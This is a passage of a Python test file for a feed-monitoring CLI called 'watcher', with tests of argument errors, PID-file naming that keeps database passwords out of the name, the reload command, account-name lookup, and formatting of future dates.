        "error: --source: no source 'dailyn' (did you mean 'dailynk'?)"
    )
    silence = watcher(
        "--config", str(cfg), "--db", db, "silence", "add", "--match", "source=dailynk",
        "--for", "6 hours", "--reason", "test",
    )  # fmt: skip
    assert silence.returncode == 2
    assert silence.stderr.strip() == "error: --for: expected a duration like 15m, got '6 hours'"


def test_the_postgres_pid_file_is_named_without_password_or_registered_secrets() -> None:
    # the daemon (its secrets registered for redaction) and `watcher reload` from a shell
    # without its password must name the same file
    from watcher import log as logsetup
    from watcher.daemon import pid_path

    config = "/srv/watcher/sources.yaml"
    daemon_side = pid_path(config, None, "postgresql+psycopg://watcher:s3cret-pw@db.internal/w")
    reload_side = pid_path(config, None, "postgresql+psycopg://watcher:@db.internal/w")
    before = list(logsetup._filter.secrets)
    logsetup.add_secrets(["watcher"])  # another secret that happens to be the user name
    try:
        assert pid_path(config, None, "postgresql+psycopg://watcher:x@db.internal/w") == (
            daemon_side
        )
    finally:
        logsetup._filter.secrets = before
    assert daemon_side == reload_side
    assert pid_path(config, None, "postgresql+psycopg://watcher:@other.host/w") != daemon_side
    assert (
        pid_path("/srv/other/sources.yaml", None, "postgresql+psycopg://watcher:@db.internal/w")
        != daemon_side
    )


def test_reload_with_db_given_needs_no_database_variable(tmp_path: Path) -> None:
    cfg = tmp_path / "sources.yaml"
    cfg.write_text(
        "sources:\n  - {id: a, kind: feed, url: 'https://example.org/f'}\n"
        "settings:\n  database_url: ${WATCHER_T_DATABASE_URL}\n"
    )
    db = tmp_path / "w.db"
    result = watcher("--config", str(cfg), "--db", f"sqlite:///{db}", "reload")
    assert result.returncode == 1
    assert (
        result.stderr.strip()
        .splitlines()[-1]
        .startswith(f"error: no running daemon found: {db}.pid does not exist")
    )
    alone = watcher("--config", str(cfg), "reload")
    assert alone.returncode == 1
    assert alone.stderr.strip().splitlines()[-1] == (
        "error: where the daemon keeps its PID depends on WATCHER_T_DATABASE_URL, not set in "
        "this shell: set it, or give the daemon's database with --db"
    )


def test_who_is_the_account_running_the_command_when_no_variable_names_it(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import os
    import pwd

    from watcher.cli.base import who

    assert who("  ana ") == "ana"
    for name in ("LOGNAME", "USER", "LNAME", "USERNAME"):
        monkeypatch.delenv(name, raising=False)
    # a container or a cron job sets no variable: the system's record of the account
    assert who(None) == pwd.getpwuid(os.getuid()).pw_name
    assert who("") == who(None)
    monkeypatch.setenv("USER", "min")
    assert who(None) == "min"


def test_who_is_unknown_for_an_account_the_system_has_no_record_of(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import getpass

    from watcher.cli.base import who

    def no_account() -> str:
        raise OSError("No username set in the environment")

    monkeypatch.setattr(getpass, "getuser", no_account)
    assert who(None) == "unknown" and who("ana") == "ana"


def test_sources_test_says_when_the_date_given_was_in_the_future() -> None:
    from zoneinfo import ZoneInfo

    from watcher.cli.sources import _published
    from watcher.items import make_item

    fetched = datetime(2026, 12, 3, 16, 0, tzinfo=UTC)
    raw = "Fri, 04 Dec 2026 04:00:00 +0000"
    item = make_item(source_id="s", title="T", link=None, date_raw=raw, fetched_at=fetched)
    assert _published(item, ZoneInfo("Asia/Seoul")) == (
        f"2026-12-04 01:00 KST (fetch time: the date given, {raw!r}, was in the future)"
    )
